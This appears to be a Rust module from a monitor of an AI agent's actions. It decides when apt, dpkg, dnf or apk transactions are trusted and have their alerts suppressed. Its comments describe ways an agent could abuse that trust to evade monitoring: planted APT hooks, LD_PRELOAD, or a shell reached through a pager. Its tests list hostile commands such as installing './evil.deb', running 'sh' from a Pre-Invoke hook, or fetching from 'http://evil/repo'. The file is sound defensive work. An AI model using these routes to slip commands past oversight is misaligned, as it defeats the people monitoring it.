//! System package transactions: `apt-get install -y jq` run by the agent as root unpacks files
//! into /usr, rewrites dpkg's state, runs maintainer scripts through sh and perl (which reads
//! /etc/shadow through getpwnam), runs tar, and fetches from the distribution's mirrors. Judged
//! as the agent's own work, one benign install was thirty alerts and a critical "exfiltration
//! chain" incident. What the package manager and everything it starts do is the distribution's
//! code, so while a transaction is trusted its processes' file, exec and network findings are
//! not alerts ([`package_work`]).
//!
//! The trust is given only where the agent cannot choose the code that runs, and taken back for
//! the whole transaction the moment it can:
//! - at the start: the program is one of `[graph].package_managers` and every argument is a
//!   subcommand that installs, removes, updates or queries, a known option that changes none of
//!   where packages come from or what runs, or a package name ([`vetted`]): no local package
//!   file (`./x.deb`), no `-c` configuration and no `-o` setting but an unattended install's
//!   ([`safe_setting`]; never `APT::Update::Pre-Invoke`), no other root,
//!   admin directory or repository, no editor or pager (`apt edit-sources`, `changelog`);
//! - during it: a process of the transaction that reads, maps or executes a file the tree wrote
//!   outside a trusted transaction (a configuration named by `APT_CONFIG`, a source or hook the
//!   agent put in /etc/apt, a library in `LD_PRELOAD`, a replaced /usr/bin/tar), or that starts
//!   an interactive shell (dpkg's "start a shell" at a conffile prompt), a pager or an editor
//!   ([`INTERACTIVE_PROGRAMS`]: `!sh` in less), taints it: from then on
//!   every process of it is judged as any other.
//!
//! Files a trusted transaction writes are the packages' content, not files the tree wrote: the
//! agent running the `jq` it just installed is no write-then-exec cycle.

use super::*;

/// Subcommands of the package managers that install, remove or update packages and run nothing
/// the agent names. Not `changelog`, `edit-sources`, `source`, `build-dep`, `download`, `shell`
/// or any other that starts a pager, an editor or a build; nor the queries (`list`, `show`,
/// dpkg's `-l`), which do no package work to trust and page their output on a terminal.
const SUBCOMMANDS: &[&str] = &[
    // apt, apt-get, aptitude
    "install",
    "reinstall",
    "remove",
    "purge",
    "autoremove",
    "autopurge",
    "update",
    "upgrade",
    "full-upgrade",
    "dist-upgrade",
    "safe-upgrade",
    "clean",
    "autoclean",
    // dnf, yum, microdnf, zypper
    "erase",
    "makecache",
    "distro-sync",
    "downgrade",
    "in",
    "rm",
    "refresh",
    "ref",
    "up",
    "dup",
    // apk
    "add",
    "del",
    "fix",
];

/// Options that change none of where packages come from, what is configured or what runs.
/// dpkg's actions are options: configuring what is unpacked, and removing.
const OPTIONS: &[&str] = &[
    "-y",
    "--yes",
    "--assume-yes",
    "--assumeyes",
    "-q",
    "-qq",
    "--quiet",
    "-V",
    "--verbose-versions",
    "--no-install-recommends",
    "--no-install-suggests",
    "--install-recommends",
    "--install-suggests",
    "--reinstall",
    "-f",
    "--fix-broken",
    "-m",
    "--fix-missing",
    "--ignore-missing",
    "--only-upgrade",
    "--no-upgrade",
    "--purge",
    "--auto-remove",
    "--autoremove",
    "--show-progress",
    "--allow-downgrades",
    "--allow-change-held-packages",
    "-d",
    "--download-only",
    "--no-download",
    "--dry-run",
    "--simulate",
    "-s",
    "--no-cache",
    "--update",
    "--no-progress",
    "--refresh",
    "--nodocs",
    "--best",
    "--nobest",
    "--allowerasing",
    "--skip-broken",
    "--no-confirm",
    "--non-interactive",
    "-n",
    // dpkg
    "--configure",
    "-a",
    "--pending",
    "-r",
    "-P",
    "--remove",
];

/// Options whose value is the next word, a release or a name (`-t bookworm-backports`).
const WITH_VALUE: &[&str] = &["-t", "--target-release", "--default-release", "--virtual"];

/// Whether `args` (a package manager's, after its name) ask only for what [`SUBCOMMANDS`] and
/// [`OPTIONS`] allow, naming packages by name: see the module's documentation. dpkg takes no
/// subcommand.
pub(super) fn vetted(program: &[u8], args: &[Bytes]) -> bool {
    let mut sub = program == b"dpkg";
    let mut value = false;
    let mut setting = false;
    for a in args {
        let Ok(a) = std::str::from_utf8(a.as_bytes()) else {
            return false;
        };
        if std::mem::take(&mut setting) {
            if !safe_setting(a) {
                return false;
            }
            continue;
        }
        // apt's `-o KEY=VALUE` (`-oKEY=VALUE`, `--option KEY=VALUE`): only settings that run
        // nothing and move nothing.
        if a == "-o" || a == "--option" {
            setting = true;
            continue;
        }
        if let Some(kv) = a.strip_prefix("-o").filter(|kv| kv.contains("::")) {
            if !safe_setting(kv) {
                return false;
            }
            continue;
        }
        if std::mem::take(&mut value) {
            // A release or a virtual package's name (apk's `.build-deps`).
            if !plain_word(a.strip_prefix('.').unwrap_or(a)) {
                return false;
            }
            continue;
        }
        if let Some(opt) = a.strip_prefix('-') {
            let (name, inline) = a.split_once('=').unwrap_or((a, ""));
            let ok = if a.contains('=') {
                WITH_VALUE.contains(&name) && plain_word(inline)
            } else if OPTIONS.contains(&a) {
                true
            } else if WITH_VALUE.contains(&a) {
                value = true;
                true
            } else {
                // A cluster of flags among the above: `-qy`, `-yqq`.
                !opt.is_empty() && !opt.starts_with('-') && opt.chars().all(|c| "yqfmV".contains(c))
            };
            if !ok {
                return false;
            }
            continue;
        }
        if !sub {
            if !SUBCOMMANDS.contains(&a) {
                return false;
            }
            sub = true;
            continue;
        }
        if !plain_word(a) {
            return false;
        }
    }
    sub && !value && !setting
}

/// apt settings an unattended install passes that run nothing and change neither where
/// packages come from nor where they go: dpkg's answer to a changed configuration file
/// (`Dpkg::Options::=--force-confold`), retries and timeouts, recommends, prompts, progress.
/// Not hooks (`*::Pre-Invoke`, `DPkg::Post-Invoke`), directories (`Dir::*`), proxies or any
/// other dpkg option (`--force-all`, `--admindir`).
fn safe_setting(kv: &str) -> bool {
    const KEYS: [&str; 13] = [
        "dpkg::lock::timeout",
        "apt::get::assume-yes",
        "apt::install-recommends",
        "apt::install-suggests",
        "apt::get::install-recommends",
        "apt::get::install-suggests",
        "acquire::retries",
        "acquire::http::timeout",
        "acquire::https::timeout",
        "dpkg::use-pty",
        "dpkg::progress-fancy",
        "apt::color",
        "quiet",
    ];
    let Some((key, val)) = kv.split_once('=') else {
        return false;
    };
    let key = key.to_ascii_lowercase();
    let plain = val.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    if key == "dpkg::options::" || key == "dpkg::options" {
        return [
            "--force-confold",
            "--force-confdef",
            "--force-confnew",
            "--force-confmiss",
        ]
        .contains(&val.trim_matches('"'));
    }
    KEYS.contains(&key.as_str()) && plain
}

/// A package's name, with an optional version (`jq=1.6-2.1`, `curl>=8`), architecture
/// (`libc6:amd64`), release (`nginx/bookworm-backports`) or glob: never a path or a URL.
fn plain_word(w: &str) -> bool {
    let ok = |s: &str| {
        s.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || "+-._:=~<>*?".contains(c))
    };
    let (name, release) = w.split_once('/').unwrap_or((w, "a"));
    ok(name)
        && ok(release)
        && ![".deb", ".rpm", ".apk", ".udeb", ".ddeb"]
            .iter()
            .any(|x| w.ends_with(x))
}

/// Whether an alert of a trusted transaction's process is the packages' work: what the
/// distribution's code writes, runs, reads and fetches. Still alerts: a metadata service, a
/// fileless exec, a set-ID exec, kernel modules, mounts and the machine's power, ptrace,
/// signals, raw sockets, io_uring and lost events.
pub(super) fn package_work(key: &str, a: &Alert) -> bool {
    match a.channel.as_str() {
        "L2" | "L3" | "RISKY_BINARY" | "SENSITIVE_FILE" | "PERSISTENCE" | "INDICATOR_REMOVAL"
        | "DATA_DESTRUCTION" | "DNS_ANOMALY" | "INTENT" => true,
        "L4" => {
            matches!(
                a.kind.as_str(),
                "UNKNOWN_DESTINATION" | "NET_SCAN" | "NET_EGRESS_BURST"
            ) && !key.starts_with("L4 metadata")
        }
        // A package's files given their modes and capabilities (ping's cap_net_raw, sudo's
        // set-user-ID bit), as dpkg unpacks them.
        "PRIVILEGED_CALL" => [
            "chmod",
            "fchmod",
            "setxattr",
            "lsetxattr",
            "fsetxattr",
            "open",
        ]
        .iter()
        .any(|s| {
            key.strip_prefix("PRIVILEGED ")
                .is_some_and(|k| k.starts_with(s))
        }),
        _ => false,
    }
}

/// Programs that take commands from a terminal (pagers, editors): inside a transaction they
/// are a way to a shell (`!sh` in less, `:!sh` in vi), so one starting ends the trust.
pub(super) const INTERACTIVE_PROGRAMS: [&str; 14] = [
    "less",
    "more",
    "most",
    "pager",
    "sensible-pager",
    "view",
    "vi",
    "vim",
    "vim.basic",
    "vim.tiny",
    "nano",
    "editor",
    "sensible-editor",
    "emacs",
];

/// Whether an interpreter's argv runs nothing but what it reads from its terminal: no script
/// and no inline code (`bash`, `sh -i`, dpkg's `$SHELL -i`).
pub(super) fn interactive(argv: &[Bytes]) -> bool {
    argv.iter().skip(1).all(|a| {
        let a = a.as_bytes();
        a.starts_with(b"-")
            && !(a.len() > 1 && a[1] != b'-' && a[1..].iter().any(|c| b"ce".contains(c)))
            && !a.starts_with(b"--eval")
    })
}

/// The transactions of a run: id -> whether it is still trusted.
#[derive(Default)]
pub(super) struct Transactions {
    trusted: FxHashMap<u32, bool>,
    next: u32,
}

/// Transactions remembered; past it they are forgotten, and a forgotten one is not trusted.
const MAX_TRANSACTIONS: usize = 4096;

impl Transactions {
    /// A new trusted transaction's id (never 0, which is none).
    pub(super) fn start(&mut self) -> u32 {
        if self.trusted.len() >= MAX_TRANSACTIONS {
            self.trusted.clear();
        }
        self.next = self.next.wrapping_add(1).max(1);
        self.trusted.insert(self.next, true);
        self.next
    }

    pub(super) fn is_empty(&self) -> bool {
        self.trusted.is_empty()
    }

    pub(super) fn trusted(&self, tx: u32) -> bool {
        tx != 0 && self.trusted.get(&tx) == Some(&true)
    }

    pub(super) fn taint(&mut self, tx: u32) {
        if let Some(t) = self.trusted.get_mut(&tx) {
            *t = false;
        }
    }
}

impl Engine {
    /// The trusted transaction `pid` is in, if any.
    pub(super) fn trusted_tx(&self, pid: u32) -> Option<u32> {
        // Most runs start no transaction: no process lookup per record for them.
        if self.txs.is_empty() {
            return None;
        }
        self.procs
            .get(&pid)
            .map(|p| p.tx)
            .filter(|&tx| self.txs.trusted(tx))
    }

    /// Whether `program` (a basename) is a system package manager (`[graph].package_managers`).
    pub(super) fn package_manager(&self, program: &[u8]) -> bool {
        self.policy
            .package_managers
            .iter()
            .any(|g| glob_match(g, program))
    }

    /// A process of a trusted transaction read, mapped or ran a file the tree wrote outside
    /// one: what the transaction does is no longer the distribution's alone.
    pub(super) fn taint_on_read(&mut self, pid: u32, f: &FileOpen) {
        let Some(tx) = self.trusted_tx(pid) else {
            return;
        };
        if f.access != Access::Read && !f.mapped_exec {
            return;
        }
        if (f.ino != 0 && self.written.by_ino((f.dev, f.ino)).is_some())
            || self.written.by_path(f.path.as_bytes()).is_some()
        {
            self.txs.taint(tx);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(s: &str) -> Vec<Bytes> {
        s.split(' ').map(Bytes::from).collect()
    }

    #[test]
    fn installs_by_name_are_vetted_and_local_files_config_and_escapes_are_not() {
        let ok = |s: &str| {
            let a = argv(s);
            vetted(file_name(a[0].as_bytes()), &a[1..])
        };
        for s in [
            "apt-get install -y jq",
            "apt-get -qy install --no-install-recommends jq=1.6-2.1 libc6:amd64",
            "apt install -y -t bookworm-backports nginx/bookworm-backports",
            "apt-get update",
            "apt-get -yqq upgrade",
            "apt-get remove --purge -y python3*",
            "dpkg --configure -a",
            "dnf install -y gcc",
            "apk add --no-cache --virtual .build-deps gcc musl-dev",
            "apt-get -y -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold install jq",
            "apt-get -oAcquire::Retries=3 --option APT::Install-Recommends=false install jq",
            "apt-get -o DPkg::Lock::Timeout=600 install -y jq",
        ] {
            assert!(ok(s), "{s}");
        }
        for s in [
            "apt-get install ./evil.deb",
            "apt-get install /tmp/evil.deb",
            "apt-get install evil.deb",
            "apt-get -o APT::Update::Pre-Invoke::=sh update",
            "apt-get -oAPT::Update::Pre-Invoke::=sh update",
            "apt-get -o Dpkg::Options::=--force-all install jq",
            "apt-get -o Dpkg::Options::=--admindir=/tmp/x install jq",
            "apt-get -o DPkg::Post-Invoke::=sh install jq",
            "apt-get -o Dir::Etc::sourcelist=/tmp/s update",
            "apt-get -o Acquire::http::Proxy=http://evil:3128 update",
            "apt-get install jq -o",
            "apt-get -c /tmp/apt.conf update",
            "apt-get changelog apt",
            "dpkg -l",
            "apt show jq",
            "apt edit-sources",
            "apt-get source jq",
            "apt-get -t",
            "dpkg -i x.deb",
            "dpkg --admindir=/tmp/x --configure -a",
            "dpkg --force-all -r jq",
            "dnf --setopt=pluginpath=/tmp install x",
            "dnf install https://example.com/x.rpm",
            "apk add --allow-untrusted x.apk",
            "apk add -X http://evil/repo x",
            "apt-get install -- jq",
            "apt-get install .hidden",
        ] {
            assert!(!ok(s), "{s}");
        }
    }

    #[test]
    fn an_interpreter_given_no_script_and_no_code_reads_its_terminal() {
        assert!(interactive(&argv("bash")));
        assert!(interactive(&argv("bash -i")));
        assert!(interactive(&argv("sh -l")));
        assert!(!interactive(&argv("sh -c rm")));
        assert!(!interactive(&argv("sh -ec rm")));
        assert!(!interactive(&argv("perl -e 1")));
        assert!(!interactive(&argv(
            "/bin/sh /var/lib/dpkg/info/x.postinst configure"
        )));
        assert!(!interactive(&argv(
            "perl -w /usr/sbin/dpkg-preconfigure --apt"
        )));
    }
}
